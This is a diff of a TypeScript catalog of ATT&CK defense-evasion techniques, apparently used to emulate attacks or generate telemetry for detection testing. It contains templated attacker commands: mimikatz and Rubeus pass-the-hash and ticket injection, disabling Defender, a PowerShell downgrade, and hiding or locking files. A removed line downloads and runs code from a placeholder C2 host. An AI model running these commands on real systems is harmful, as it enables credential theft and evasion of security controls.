@@ -1,14 +1,33 @@
 import { t, v } from "../dsl";
+import { trustControls } from "./defense-evasion-trust";
 
 const DEFENDER = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender";
+const EXPLORER_ADVANCED = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced";
 
 /** Defense evasion, continued: alternate authentication, trust controls, impairing defenses, hiding. */
 export const defenseEvasion3 = [
   t("T1550", "Alternate authentication material", "Hashes or tickets used instead of passwords.", [
+    // sekurlsa::pth patches the new logon session's credentials and starts the /run process in it.
     v(
       "mimikatz-pth",
       [
-        '{{tools}}\\mimikatz.exe "sekurlsa::pth /user:{{admin}} /domain:{{dns}} /ntlm:{{rand2}}{{rand2}}{{rand2}}{{rand2}} /run:cmd.exe" exit',
+        {
+          cmd: '{{tools}}\\mimikatz.exe "privilege::debug" "sekurlsa::pth /user:{{admin}} /domain:{{dns}} /ntlm:{{rand2}}{{rand2}}{{rand2}}{{rand2}} /run:cmd.exe" exit',
+          as: "mk",
+          access: ["@lsass", "0x1038"],
+          then: [
+            {
+              id: "l",
+              kind: "logon",
+              session: "pth",
+              user: "@admin",
+              logonType: 9,
+              authPackage: "Negotiate",
+              proc: "@lsass",
+            },
+          ],
+        },
+        { cmd: "C:\\Windows\\System32\\cmd.exe", parent: "mk" },
       ],
       { elevated: true },
     ),
@@ -97,87 +116,45 @@ export const defenseEvasion3 = [
         ],
       },
     ]),
+    // Opsec form: a sacrificial netonly logon session (type 9) so the imported ticket does not clobber the
+    // operator's own, then the ticket passed into that session's LUID.
+    v("rubeus-createnetonly", [
+      {
+        cmd: "{{tools}}\\Rubeus.exe createnetonly /program:C:\\Windows\\System32\\cmd.exe /show",
+        as: "rb",
+        then: [
+          {
+            id: "l",
+            kind: "logon",
+            session: "netonly",
+            user: "@user",
+            logonType: 9,
+            authPackage: "Negotiate",
+            proc: "@lsass",
+          },
+        ],
+      },
+      { cmd: "C:\\Windows\\System32\\cmd.exe", parent: "rb", keep: true },
+      {
+        cmd: "{{tools}}\\Rubeus.exe ptt /luid:0x{{rand}} /ticket:{{tmp}}\\{{admin}}.kirbi",
+        then: [
+          {
+            id: "tgs",
+            kind: "kerberos.tgs",
+            host: "@dc",
+            user: "@admin",
+            service: "@server",
+            source: "@workstation",
+          },
+        ],
+      },
+    ]),
     v("mimikatz-ptt", [
       '{{tools}}\\mimikatz.exe "kerberos::ptt {{tmp}}\\[0;3e7]-2-0-40e10000-{{admin}}@krbtgt-{{dns}}.kirbi" exit',
       "klist",
     ]),
   ]),
-  t("T1553", "Subvert trust controls", "Trust settings weakened (root certificates, MOTW).", [
-    v("certutil-addstore", ["certutil -addstore -f Root {{tmp}}\\{{rand}}.cer"], { elevated: true }),
-  ]),
-  t("T1553.002", "Code signing", "A payload signed with a stolen certificate using signtool.", [
-    v("signtool", [
-      '"C:\\Program Files (x86)\\Windows Kits\\10\\bin\\10.0.22621.0\\x64\\signtool.exe" sign /f {{tmp}}\\stolen.pfx /p pass /t http://timestamp.digicert.com {{tmp}}\\{{name}}.exe',
-    ]),
-  ]),
-  t(
-    "T1553.003",
-    "SIP and trust provider hijacking",
-    "CryptSIPDllVerifyIndirectData pointed at a permissive DLL.",
-    [
-      v(
-        "reg-sip",
-        [
-          {
-            cmd: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllVerifyIndirectData\\{C689AAB8-8E78-11D0-8C47-00C04FC295EE}" /v Dll /t REG_SZ /d C:\\Windows\\System32\\{{rand}}.dll /f',
-            reg: [
-              [
-                "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllVerifyIndirectData\\{C689AAB8-8E78-11D0-8C47-00C04FC295EE}",
-                "Dll",
-                "C:\\Windows\\System32\\{{rand}}.dll",
-              ],
-            ],
-          },
-        ],
-        { elevated: true },
-      ),
-    ],
-  ),
-  t("T1553.004", "Install root certificate", "A root CA added with certutil or Import-Certificate.", [
-    v("certutil-addstore", ["certutil -addstore -f -enterprise Root {{tmp}}\\{{rand}}.cer"], {
-      elevated: true,
-    }),
-    v(
-      "import-certificate",
-      [
-        {
-          ps: "Import-Certificate -FilePath $env:TEMP\\{{rand}}.cer -CertStoreLocation Cert:\\LocalMachine\\Root",
-          reg: [
-            [
-              "HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates\\{{rand2}}{{rand2}}{{rand2}}{{rand2}}{{rand2}}",
-              "Blob",
-              "0300000001000000",
-              "REG_BINARY",
-            ],
-          ],
-        },
-      ],
-      { shell: "ps", elevated: true },
-    ),
-  ]),
-  t(
-    "T1553.005",
-    "Mark-of-the-web bypass",
-    "Payload delivered inside ISO/VHD containers, or Zone.Identifier removed.",
-    [
-      v(
-        "mount-iso",
-        [
-          { ps: 'Mount-DiskImage -ImagePath "$env:USERPROFILE\\Downloads\\{{rand}}.iso"' },
-          { cmd: "E:\\{{name}}.exe", parent: "@explorer" },
-        ],
-        { shell: "ps" },
-      ),
-      v("unblock-file", [{ ps: "Unblock-File -Path $env:USERPROFILE\\Downloads\\{{rand}}.exe" }], {
-        shell: "ps",
-      }),
-    ],
-  ),
-  t("T1553.006", "Code signing policy modification", "Driver signing enforcement disabled with bcdedit.", [
-    v("bcdedit-testsigning", ["bcdedit.exe /set TESTSIGNING ON", "bcdedit.exe /set nointegritychecks on"], {
-      elevated: true,
-    }),
-  ]),
+  ...trustControls,
   t("T1562", "Impair defenses", "Security tooling weakened before the main action.", [
     v("set-mppreference", [{ ps: "Set-MpPreference -DisableRealtimeMonitoring $true" }], {
       shell: "ps",
@@ -317,7 +294,8 @@ export const defenseEvasion3 = [
   ]),
   t("T1562.010", "Downgrade attack", "PowerShell version 2 to avoid script block logging.", [
     v("powershell-v2", [
-      "powershell.exe -version 2 -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://{{c2}}/a')\"",
+      // The engine without AMSI or script block logging runs the operator's staged script.
+      "powershell.exe -version 2 -nop -ep bypass -File {{tools}}\\{{rand}}.ps1",
     ]),
     v(
       "ntlm-downgrade",
@@ -345,10 +323,35 @@ export const defenseEvasion3 = [
   t("T1564", "Hide artifacts", "Files hidden with attrib +h +s.", [
     v("attrib", ["attrib +h +s {{appdata}}\\{{name}}.exe"]),
   ]),
-  t("T1564.001", "Hidden files and directories", "attrib +h +s on payloads and folders.", [
-    v("attrib-hs", ["attrib.exe +h +s {{appdata}}\\{{rand}}"]),
-    v("ps-attributes", [{ ps: "(Get-Item C:\\ProgramData\\{{rand}} -Force).Attributes = 'Hidden,System'" }], {
-      shell: "ps",
-    }),
-  ]),
+  t(
+    "T1564.001",
+    "Hidden files and directories",
+    "attrib +h +s on payloads and folders, hidden files kept out of Explorer, folders locked with icacls.",
+    [
+      v("attrib-hs", [
+        "attrib.exe +h +s C:\\ProgramData\\{{rand}}",
+        "attrib.exe +h +s C:\\ProgramData\\{{rand}}\\{{name}}.exe",
+      ]),
+      // Atomic T1564.001 "Hide Files Through Registry", as USB worms and droppers set it for the user.
+      v("reg-hide-superhidden", [
+        {
+          cmd: `reg add ${EXPLORER_ADVANCED} /v ShowSuperHidden /t REG_DWORD /d 0 /f`,
+          reg: [[EXPLORER_ADVANCED, "ShowSuperHidden", "0", "REG_DWORD"]],
+        },
+        {
+          cmd: `reg add ${EXPLORER_ADVANCED} /v Hidden /t REG_DWORD /d 2 /f`,
+          reg: [[EXPLORER_ADVANCED, "Hidden", "2", "REG_DWORD"]],
+        },
+      ]),
+      v(
+        "ps-attributes",
+        [{ ps: "(Get-Item C:\\ProgramData\\{{rand}} -Force).Attributes = 'Hidden,System'" }],
+        {
+          shell: "ps",
+        },
+      ),
+      // Loaders deny Everyone delete rights on their install folder so it cannot be listed or removed.
+      v("icacls-deny", ['icacls "{{local}}\\{{name}}" /deny *S-1-1-0:(OI)(CI)(DE,DC)']),
+    ],
+  ),
 ];
